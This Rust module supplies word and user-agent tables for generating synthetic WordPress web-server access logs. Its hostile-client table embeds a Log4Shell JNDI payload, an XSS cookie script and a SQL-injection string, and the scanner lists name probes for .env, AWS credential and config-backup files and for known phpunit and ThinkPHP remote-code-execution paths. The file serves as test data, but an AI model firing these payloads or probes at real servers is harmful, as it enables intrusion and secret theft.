//! Static vocabulary of the corpus: user agents by class, slug words, asset
//! and scanner paths. Weights are relative within each table.

use crate::http::Class;

/// Desktop and mobile browsers, weighted by share.
pub(crate) const BROWSERS: &[(&str, u32)] = &[
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
        30,
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
        10,
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
        20,
    ),
    (
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36",
        18,
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0",
        6,
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0",
        6,
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15",
        5,
    ),
    (
        "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
        2,
    ),
    (
        "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36",
        2,
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/22G86 [FBAN/FBIOS;FBAV/530.0.0.41.107;FBBV/787654321;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;FBSV/18.6;FBSS/3;FBCR/;FBID/phone;FBLC/de_DE;FBOP/80]",
        1,
    ),
    (
        "Mozilla/5.0 (Linux; Android 13; 小米 13 Build/TKQ1.221114.001) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36 XiaoMi/MiuiBrowser/18.0",
        1,
    ),
];

/// Crawlers. One carries `"` characters, which Traefik's CLF writes raw.
pub(crate) const BOTS: &[(&str, u32)] = &[
    (
        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        20,
    ),
    (
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        5,
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
        10,
    ),
    (
        "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
        12,
    ),
    (
        "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
        8,
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
        8,
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
        6,
    ),
    (
        "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
        5,
    ),
    (
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        3,
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
        3,
    ),
    (
        "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
        3,
    ),
    (
        "Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)",
        3,
    ),
    (
        "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)",
        2,
    ),
    (
        "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
        2,
    ),
    (
        "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
        2,
    ),
    (
        "Mozilla/5.0 (compatible; \"Pinger\"/2.1; +https://bot.example.net/ \"beta\")",
        1,
    ),
];

/// Libraries and command-line clients; `""` is a request with no User-Agent.
pub(crate) const TOOLS: &[(&str, u32)] = &[
    ("curl/8.5.0", 5),
    ("Wget/1.21.4", 2),
    ("python-requests/2.32.3", 3),
    ("Go-http-client/2.0", 2),
    ("WordPress/6.8.3; https://wordpress.org", 2),
    ("Jetpack by WordPress.com", 2),
    ("axios/1.7.7", 1),
    ("PostmanRuntime/7.42.0", 1),
    ("", 2),
];

/// Uptime monitors.
pub(crate) const MONITORS: &[(&str, u32)] = &[
    (
        "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        5,
    ),
    ("Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", 2),
    ("Blackbox Exporter/0.25.0", 2),
];

/// Scanners and brute-forcers; several carry `"` or injection payloads.
pub(crate) const HOSTILE: &[(&str, u32)] = &[
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
        15,
    ),
    (
        "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
        6,
    ),
    ("python-requests/2.31.0", 8),
    ("Go-http-client/1.1", 10),
    ("Mozilla/5.0 zgrab/0.x", 6),
    (
        "WPScan v3.8.28 (https://wpscan.com/wordpress-security-scanner)",
        4,
    ),
    (
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        2,
    ),
    (
        "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
        3,
    ),
    (
        "Mozilla/5.0 (l9scan/2.0.736313e2237393e22323e27313; +https://leakix.net)",
        2,
    ),
    ("Fuzz Faster U Fool v2.1.0-dev", 2),
    ("", 6),
    ("${jndi:ldap://203.0.113.50:1389/a}", 1),
    ("\"><script>alert(document.cookie)</script>", 1),
    ("Mozilla/5.0\" OR \"1\"=\"1", 1),
];

/// Tokens old toolbar-laden Internet Explorers piled into their UA; used to
/// build the few multi-KiB user agents.
pub(crate) const HUGE_UA_TOKENS: &[&str] = &[
    ".NET CLR 2.0.50727",
    ".NET CLR 3.0.4506.2152",
    ".NET CLR 3.5.30729",
    "Media Center PC 6.0",
    "InfoPath.3",
    "SLCC2",
    "Tablet PC 2.0",
    "MS-RTC LM 8",
    "Zune 4.7",
    "GTB7.5",
    "BRI/2",
    "OfficeLiveConnector.1.5",
    "OfficeLivePatch.1.3",
    "Hotbar 10.2.236.0",
    "Alexa Toolbar",
    "MAAU",
    "MDDRJS",
    "\"Toolbar/4.2\"",
];

/// The user-agent table for a class.
pub(crate) fn agents(class: Class) -> &'static [(&'static str, u32)] {
    match class {
        Class::Browser => BROWSERS,
        Class::Bot => BOTS,
        Class::Tool => TOOLS,
        Class::Monitor => MONITORS,
        Class::Hostile | Class::WordPress => HOSTILE,
    }
}

/// Words for permalink slugs, categories and searches.
pub(crate) const WORDS: &[&str] = &[
    "hello",
    "world",
    "summer",
    "sale",
    "recipe",
    "guide",
    "best",
    "wordpress",
    "tips",
    "news",
    "update",
    "review",
    "travel",
    "garden",
    "coffee",
    "local",
    "event",
    "photos",
    "how",
    "to",
    "make",
    "easy",
    "quick",
    "new",
    "year",
    "the",
    "ultimate",
    "checklist",
    "winter",
    "kitchen",
    "design",
    "ideas",
    "home",
    "family",
    "health",
    "fitness",
    "running",
    "music",
    "festival",
    "market",
    "city",
    "weekend",
    "books",
    "reading",
    "learning",
    "php",
    "performance",
    "hosting",
    "security",
    "backup",
    "plugin",
    "theme",
    "release",
    "notes",
    "interview",
    "story",
    "behind",
    "scenes",
    "community",
    "meetup",
    "workshop",
    "podcast",
    "episode",
    "video",
];

/// Theme and plugin stylesheets.
pub(crate) const STYLES: &[&str] = &[
    "/wp-includes/css/dist/block-library/style.min.css?ver=6.8.3",
    "/wp-content/themes/astra/assets/css/minified/main.min.css?ver=4.11.12",
    "/wp-content/themes/twentytwentyfive/style.css?ver=1.3",
    "/wp-content/plugins/elementor/assets/css/frontend.min.css?ver=3.32.2",
    "/wp-content/plugins/woocommerce/assets/css/woocommerce.css?ver=10.2.2",
    "/wp-content/plugins/contact-form-7/includes/css/styles.css?ver=6.1.2",
    "/wp-includes/css/dashicons.min.css?ver=6.8.3",
    "/wp-content/uploads/elementor/css/post-12.css?ver=1763546400",
];

/// Theme, plugin and core scripts.
pub(crate) const SCRIPTS: &[&str] = &[
    "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1",
    "/wp-includes/js/jquery/jquery-migrate.min.js?ver=3.4.1",
    "/wp-includes/js/wp-emoji-release.min.js?ver=6.8.3",
    "/wp-includes/js/dist/hooks.min.js?ver=4d63a3d491d11ffd8ac6",
    "/wp-includes/js/dist/i18n.min.js?ver=5e580eb46a90c2b997e6",
    "/wp-content/plugins/elementor/assets/js/frontend.min.js?ver=3.32.2",
    "/wp-content/plugins/woocommerce/assets/js/frontend/cart-fragments.min.js?ver=10.2.2",
    "/wp-content/themes/astra/assets/js/minified/frontend.min.js?ver=4.11.12",
    "/wp-content/plugins/contact-form-7/includes/swv/js/index.js?ver=6.1.2",
];

/// Web fonts.
pub(crate) const FONTS: &[&str] = &[
    "/wp-content/themes/astra/assets/fonts/astra.woff",
    "/wp-content/themes/twentytwentyfive/assets/fonts/manrope/Manrope-VariableFont_wght.woff2",
    "/wp-content/plugins/elementor/assets/lib/font-awesome/webfonts/fa-solid-900.woff2",
    "/wp-includes/fonts/dashicons.woff2?ver=6.8.3",
];

/// admin-ajax GET actions (most admin-ajax traffic is POST with the action in the body).
pub(crate) const AJAX_GET: &[&str] = &[
    "/wp-admin/admin-ajax.php?action=wc_fragment_refresh",
    "/wp-admin/admin-ajax.php?action=elementor_ajax",
    "/wp-admin/admin-ajax.php?action=heartbeat",
];

/// REST API routes.
pub(crate) const REST_GET: &[&str] = &[
    "/wp-json/wp/v2/posts?per_page=10",
    "/wp-json/wp/v2/posts?per_page=10&page=2",
    "/wp-json/wp/v2/posts?per_page=100&_fields=id,link,title",
    "/wp-json/wp/v2/pages/42",
    "/wp-json/wp/v2/categories",
    "/wp-json/wp/v2/users",
    "/wp-json/wc/store/v1/cart",
    "/wp-json/",
    "/?rest_route=/wp/v2/posts",
];

/// REST API routes that take a body.
pub(crate) const REST_POST: &[&str] = &[
    "/wp-json/contact-form-7/v1/contact-forms/123/feedback",
    "/wp-json/wc/store/v1/cart/add-item",
    "/wp-json/wp/v2/posts/1234?_locale=user",
    "/wp-json/jetpack/v4/sync/full-sync",
];

/// Logged-in admin screens.
pub(crate) const ADMIN: &[&str] = &[
    "/wp-admin/",
    "/wp-admin/edit.php",
    "/wp-admin/plugins.php",
    "/wp-admin/upload.php",
    "/wp-admin/post-new.php",
    "/wp-admin/load-scripts.php?c=0&load%5Bchunk_0%5D=jquery-core,jquery-migrate,utils&ver=6.8.3",
    "/wp-admin/load-styles.php?c=0&dir=ltr&load%5Bchunk_0%5D=dashicons,admin-bar,common&ver=6.8.3",
];

/// Scanner probes that never reach PHP (nginx answers).
pub(crate) const SCANNER_STATIC: &[&str] = &[
    "/.env",
    "/.git/config",
    "/wp-config.php.bak",
    "/wp-config.php~",
    "/phpmyadmin/",
    "/.aws/credentials",
    "/backup.zip",
    "/.DS_Store",
    "/wp-content/debug.log",
    "/.vscode/sftp.json",
    "/cgi-bin/luci/;stok=/locale",
    "/owa/auth/logon.aspx",
];

/// Scanner probes that PHP-FPM executes (WordPress or a `.php` file answers).
pub(crate) const SCANNER_PHP: &[&str] = &[
    "/wp-admin/install.php",
    "/wp-admin/setup-config.php",
    "/wp-includes/wlwmanifest.xml",
    "/xmlrpc.php?rsd",
    "/wp-login.php?action=register",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/wp-content/plugins/revslider/temp/update_extract/revslider/",
    "/wp-content/uploads/wpr-addons/forms/x.php",
    "/?author=1",
    "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars%5B0%5D=md5&vars%5B1%5D%5B%5D=HelloThinkPHP",
    "/wp-json/wp/v2/users/?per_page=100&page=1",
];

/// Host headers no router matches (scanners hitting the load balancer by IP).
pub(crate) const STRAY_HOSTS: &[&str] = &[
    "192.0.2.10",
    "192.0.2.10:443",
    "localhost",
    "www.example.net",
];
